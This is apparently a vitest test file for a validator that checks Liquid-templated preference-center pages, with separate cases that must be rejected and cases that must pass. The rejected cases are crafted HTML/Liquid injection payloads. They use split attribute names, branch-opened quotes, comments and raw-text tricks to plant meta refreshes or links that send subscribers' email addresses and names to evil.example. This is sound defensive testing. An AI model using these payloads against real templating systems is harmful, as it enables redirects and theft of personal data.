/** Where Liquid may stand in stored pages: no rendering makes other HTML of a page than what was checked. */
import { expect, test } from "vitest";
import type { CenterContent } from "../domain/center.ts";
import { openPages } from "./pages.ts";

const form =
  '<form action="{{preference_center_submit_url}}" method="post"><input name="{% form_field_name :email_global_state %}"></form>';

function problem(pageHtml: string): string {
  const rest = { title: "T", confirmationHtml: "", redirectHtml: null, options: { linkTags: [] }, state: "active" } as const;
  const content: CenterContent = { pageHtml, ...rest };
  try {
    openPages().check(content, { scriptsAllowed: false, origins: [] });
    return "";
  } catch (error) {
    return String(error);
  }
}

const here = "line 2: Liquid may not stand here";
const branch = "line 2: a branch of Liquid must end where it began";
const raw = "line 2: browsers may read what is within";
const quoted = "line 2: Liquid output that makes the value of an attribute must stand in quotes";
const leads = 'http-equiv="refresh" content="0;url=https://evil.example/?{{${email_address}}}"';

test.each([
  // Halves of a name
  ['<meta http-equiv="refresh" con{% assign a = 1 %}tent="0;url=https://evil.example/?e={{${email_address}}}">', here],
  ['<a hr{% if no %}{% endif %}ef="https://evil.example/{{${first_name}}}">x</a>', here],
  ['<a hr{% comment %}x{% endcomment %}ef="https://evil.example/{{${first_name}}}">x</a>', here],
  ['<a hr {%- assign a = 1 -%} ef="https://evil.example/{{${first_name}}}">x</a>', here],
  ["<a{% if no %} b {% endif %}c>x</a>", here],
  ['<a {% if no %}hr{% else %}x{% endif %}ef="https://evil.example/{{${first_name}}}">x</a>', here],
  ["<a{% if no %} b {% endif %}{% if no %} c {% endif %}d>x</a>", here],
  ['<a href {% if no %}x {% endif %} ="https://evil.example/{{${first_name}}}">x</a>', here],
  [`<{% assign a = 1 %}meta ${leads}>`, here],
  [`<{{ nothing }}meta ${leads}>`, here],
  [`<{{ 'meta' }} ${leads}>`, here],
  [`< {%- assign a = 1 -%} meta ${leads}>`, here],
  [`<textarea></{{ nothing }}textarea><meta ${leads}>`, here],
  [`<textarea></text{% if no %}x{% endif %}area><meta ${leads}>`, here],
  [`<!-{{ '-' }}><meta ${leads}> -->`, here],
  // Quotes, tags and comments that a branch opens or ends
  ['<a title={% if no %}"{% endif %}x href=https://evil.example/{{${first_name}}} {% if no %}"{% endif %}>x</a>', here],
  ['<a {% if no %}title="{% endif %} href=https://evil.example/{{${first_name}}} {% if no %}"{% endif %}>x</a>', branch],
  ['<a href="{% if no %}" title="{% endif %}https://evil.example/{{${first_name}}}">x</a>', branch],
  [`{% if no %}<textarea>{% endif %}<meta ${leads}>{% if no %}</textarea>{% endif %}`, branch],
  [`{% unless yes %}<!--{% else %}{% endunless %}<meta ${leads}><!-- -->`, branch],
  [`{% case a %}{% when 1 %}<title>{% when 2 %}<textarea>{% endcase %}</title><meta ${leads}>`, branch],
  [`<textarea {% if no %}></textarea><p {% endif %}><p title="</textarea><meta ${leads.replaceAll('"', "'")}>">`, branch],
  // Outputs that may be nothing, or end a comment
  [`<p title={{ nothing }} class="a ><meta ${leads.replaceAll('"', "'")}>">x</p>`, quoted],
  [`<p title={{ 'a'\n}}class="><meta ${leads.replaceAll('"', "'")}>">x</p>`, quoted],
  [`<p title={{ nothing }} {% if no %}a{% endif %} class="a ><meta ${leads.replaceAll('"', "'")}>">x</p>`, quoted],
  [`<!-- {{ '--' }}><meta ${leads}> -->`, here],
  [`<!-- {{ '--' }}!{% assign a = 1 %}><meta ${leads}> -->`, here],
  // What another rendering uses: the second of two attributes, and a tag that the tree has no place for
  [
    '<a {% if no %}href="x"{% endif %} href="https://evil.example/{{${first_name}}}">x</a>',
    "line 2: Liquid output may not stand in an address (href of <a>)",
  ],
  [
    `<meta {% if no %}http-equiv="x"{% endif %} http-equiv="refresh" content="0;url=//evil.example">`,
    "line 2: a page may not lead elsewhere by itself",
  ],
  [
    '<select><a href="https://evil.example/{{${first_name}}}">x</a></select>',
    "line 2: Liquid output may not stand in an address (href of <a>)",
  ],
  ['<meta http-equiv="re{% assign a = 1 %}fresh" content="0;url=//evil.example">', "line 2: http-equiv must be one word, without Liquid"],
  [`<meta http-equiv="{{ 'refresh' }}" content="0;url=//evil.example">`, "line 2: http-equiv must be one word, without Liquid"],
  // Raw text that is not raw within a drawing or a selection
  [`{% if no %}<svg>{% endif %}<style><a id="</style><meta ${leads.replaceAll('"', "'")}>"></a></style>`, raw],
  [`<svg>{% if no %}<svg>{% endif %}</svg><style><!-- </style><p id="--><meta ${leads.replaceAll('"', "'")}>">`, raw],
  [
    `{% if no %}<table>{% endif %}<caption><svg></caption><style><!-- </style><p id="--><meta ${leads.replaceAll('"', "'")}>"></table>`,
    raw,
  ],
  [`<select><style><!-- </style><meta ${leads}> --></style></select>`, raw],
])("no rendering of %j makes other HTML of it than what is checked", (html, reason) => {
  expect(problem(`${form}\n${html}`)).toContain(reason);
});

test.each([
  '<input type="checkbox" {% if {{subscribed_state.${email_global}}} == \'subscribed\' %}checked{% endif %} id="a">',
  '<input type="checkbox"{% if a %} checked{% endif %}><input checked{% if a %} disabled{% endif %}/>',
  "<select><option{% if a %} selected{% endif %}>a</option><option {% if a %}selected{% else %}disabled{% endif %}>b</option></select>",
  "<input {% if a %}{% if b %}checked{% endif %}{% elsif c %}{% else %}disabled{% endif %}>",
  '<p class="a {% if a %}b{% else %}c{% endif %}" style="color: {% if a %}red{% endif %}">x</p>',
  '<p {% if a %}class="a"{% else %}class="b"{% endif %}>x</p>',
  '{% if a %}<div class="a">{% else %}<div class="b">{% endif %}x</div>',
  "{%- if a -%}\n<p>x</p>\n{%- else -%}\n<p>y</p>\n{%- endif -%}\n",
  "<!-- {% if a %}{{ ${email_address} }}{% endif %} --><!--{{${email_address}}}-->",
  "<ul>{% if a %}<li>x{% endif %}{% case a %}{% when 1 %}<li>y{% else %}<li>z{% endcase %}</ul>",
  "<p>a & b&{% if a %}c{% endif %} 1 < 2 {% if a %}d{% endif %}</p>",
  '<a href="https://x.example/?a=1&{% if a %}b=2{% endif %}">x</a>',
  '<p title={{${email_address}}} class="{{${email_address}}}">x</p><p title={{${email_address}}}>x</p><p id=a-{{${email_address}}} class="a b">x</p>',
  "<title>{% if a %}x{% endif %} {{${first_name}}}</title><style>{% if a %}p { color: red }{% endif %}</style>",
  '{% if a %}<div class="a">{% else %}<div class="b">{% endif %}<svg><title>x</title><style>a { fill: red }</style></svg><style>p { color: red }</style>',
  "<svg><style><![CDATA[a { fill: red }]]></style></svg><select><option>a</select><script>if (1 < 2) x()</script>{% if a %}<p>x</p>{% endif %}",
  "<select>{% if a %}<option selected>a{% else %}<option>a{% endif %}</select><script>if (1 < 2) x()</script>",
])("a page may hold %j", (html) => {
  expect(problem(`${form}\n${html}`)).toBe("");
});
